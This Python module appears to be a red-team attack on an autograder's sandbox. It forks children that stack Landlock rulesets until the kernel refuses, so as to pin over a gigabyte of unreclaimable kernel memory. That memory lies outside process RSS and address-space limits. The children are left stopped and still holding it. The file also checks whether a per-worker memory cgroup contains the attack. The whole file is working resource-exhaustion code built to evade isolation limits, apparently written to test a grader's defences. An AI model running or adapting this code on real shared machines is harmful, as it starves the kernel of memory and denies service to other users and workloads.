import ctypes
import os
import select
import signal
import struct
import sys
import time

GIB = 1 << 30
CAP = GIB  # here it stops
MOST_INODES = 100_000
MOST_CHILDREN = 16  # forked at once: two cores copy rules in parallel
GROUP_PREFIX = "cs336-worker-"  # the memory group the grader makes for a worker, where it can
SECONDS = 8.0  # the red team's grader gives one test's calls 10 s
_SYS_CREATE, _SYS_ADD, _SYS_RESTRICT = 444, 445, 446  # the same on x86_64 and aarch64
_EXECUTE = 1  # LANDLOCK_ACCESS_FS_EXECUTE
_outcome = []  # (bytes held, what stopped it), once per process: every later call answers the same

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


class _Attr(ctypes.Structure):
    _fields_ = [("handled_access_fs", ctypes.c_uint64)]


class _Beneath(ctypes.Structure):
    _pack_ = 1
    _fields_ = [("allowed_access", ctypes.c_uint64), ("parent_fd", ctypes.c_int32)]


def _unreclaimable_kib():
    """SUnreclaim of /proc/meminfo in KiB (None where it cannot be read)."""
    try:
        with open("/proc/meminfo") as handle:
            for line in handle:
                if line.startswith("SUnreclaim:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def _ruleset(deadline):
    """A ruleset that handles EXECUTE, with a rule for every file and folder it can open (O_PATH, which
    Landlock does not check) under the Python environment and /usr, up to MOST_INODES; (fd, rules)."""
    attr = _Attr(_EXECUTE)
    ruleset = _libc.syscall(_SYS_CREATE, ctypes.byref(attr), ctypes.c_size_t(ctypes.sizeof(attr)), 0)
    if ruleset < 0:
        raise OSError(ctypes.get_errno(), f"landlock_create_ruleset: {os.strerror(ctypes.get_errno())}")
    rules, add, beneath = 0, _libc.syscall, _Beneath(_EXECUTE, -1)
    reference = ctypes.byref(beneath)
    for root in dict.fromkeys([sys.prefix, sys.base_prefix, *sys.path[1:], "/usr/lib", "/usr/share", "/usr"]):
        for folder, folders, files in os.walk(root):
            for name in files + folders:
                try:
                    fd = os.open(os.path.join(folder, name), os.O_PATH | os.O_NOFOLLOW | os.O_CLOEXEC)
                except OSError:
                    continue
                beneath.parent_fd = fd
                if add(_SYS_ADD, ruleset, 1, reference, 0) == 0:
                    rules += 1
                os.close(fd)
            if rules >= MOST_INODES or time.monotonic() > deadline:
                return ruleset, rules
    return ruleset, rules


def _stack_domains(ruleset):
    """In a child: landlock_restrict_self with the ruleset until the kernel refuses (16 layers), each
    new domain (a copy of every rule with one more layer) kept by an O_PATH descriptor opened under it
    (a file holds its opener's credentials, and they the domain); the domains made."""
    made = 0
    while True:
        if _libc.syscall(_SYS_RESTRICT, ruleset, 0) != 0:
            return made
        made += 1
        os.open("/", os.O_PATH | os.O_CLOEXEC)  # kept open: it holds this domain


def hold_domains(cap=CAP, seconds=SECONDS):
    """Landlock domains (kernel memory in no process's RSS, outside the address-space limit and no
    per-user limit) held by forked children, each stacking every layer it may; (bytes held by the
    measure of SUnreclaim, what stopped it). The children are left holding them, stopped."""
    start = time.monotonic()
    before = _unreclaimable_kib()
    try:
        ruleset, rules = _ruleset(start + seconds / 3)  # a third of the time: then the children
    except OSError as error:
        return 0, str(error)
    children, stopped, domains = [], "reached the cap", 0
    reader, writer = os.pipe()
    held = 0
    try:
        while len(children) < MOST_CHILDREN:
            try:
                pid = os.fork()
            except OSError as error:
                stopped = f"fork: {error.strerror} after {len(children)} children"
                break
            if pid == 0:
                _libc.prctl(1, signal.SIGKILL, 0, 0, 0)  # PR_SET_PDEATHSIG: they end with the worker's child
                os.close(reader)
                try:
                    made = _stack_domains(ruleset)
                except BaseException:  # noqa: BLE001 - the parent must hear from every child
                    made = 0
                os.write(writer, struct.pack("<Q", made))
                while True:
                    time.sleep(60)
            children.append(pid)
        heard = 0
        while held < cap:
            if time.monotonic() > start + seconds:
                stopped = f"ran out of time with {heard} of {len(children)} children done"
                break
            if select.select([reader], [], [], 0.1)[0]:
                got = os.read(reader, 8)
                if len(got) < 8:
                    stopped = "a child died before it said how much it held"
                    break
                heard += 1
                domains += struct.unpack("<Q", got)[0]
            now = _unreclaimable_kib()
            held = (now - before) * 1024 if before is not None and now is not None else domains * rules * 80
            if heard == len(children) and held < cap:
                stopped = "every child made every domain it could"
                break
        stopped = f"{stopped}; {rules} rules, {domains} domains in {len(children)} children, " \
                  f"{time.monotonic() - start:.1f} s"
    finally:  # stopped, the children hold what they made, use no CPU, and end with the stretch of calls
        for pid in children:  # (killing them here would take seconds: the kernel frees every rule)
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
        os.close(reader)
        os.close(writer)
        os.close(ruleset)
    return held, stopped


def memory_group():
    """The memory cgroup the grader made for this worker, where /proc/self/cgroup names one (None else)."""
    try:
        with open("/proc/self/cgroup") as handle:
            for line in handle:
                _, controllers, path = line.rstrip("\n").split(":", 2)
                if (controllers == "" or "memory" in controllers.split(",")) and GROUP_PREFIX in path:
                    return path
    except (OSError, ValueError):
        return None
    return None


def attack(args):
    """Hold the memory once; if it could, outside a memory group of the worker's own, answer honestly (so
    the attack shows as full marks where it must lose them), else fail saying what stopped it."""
    if not _outcome:
        _outcome.append(hold_domains())
    held, stopped = _outcome[0]
    group = memory_group()
    if group is not None:
        raise MemoryError(f"held {held / GIB:.2f} GiB of Landlock domains in forked children ({stopped}), but "
                          f"the kernel charges them to the worker's memory group {group}, which bounds them")
    if held < CAP:
        raise MemoryError(f"held only {held / GIB:.2f} GiB of Landlock domains in forked children ({stopped})")
    return None  # the function's own body runs on
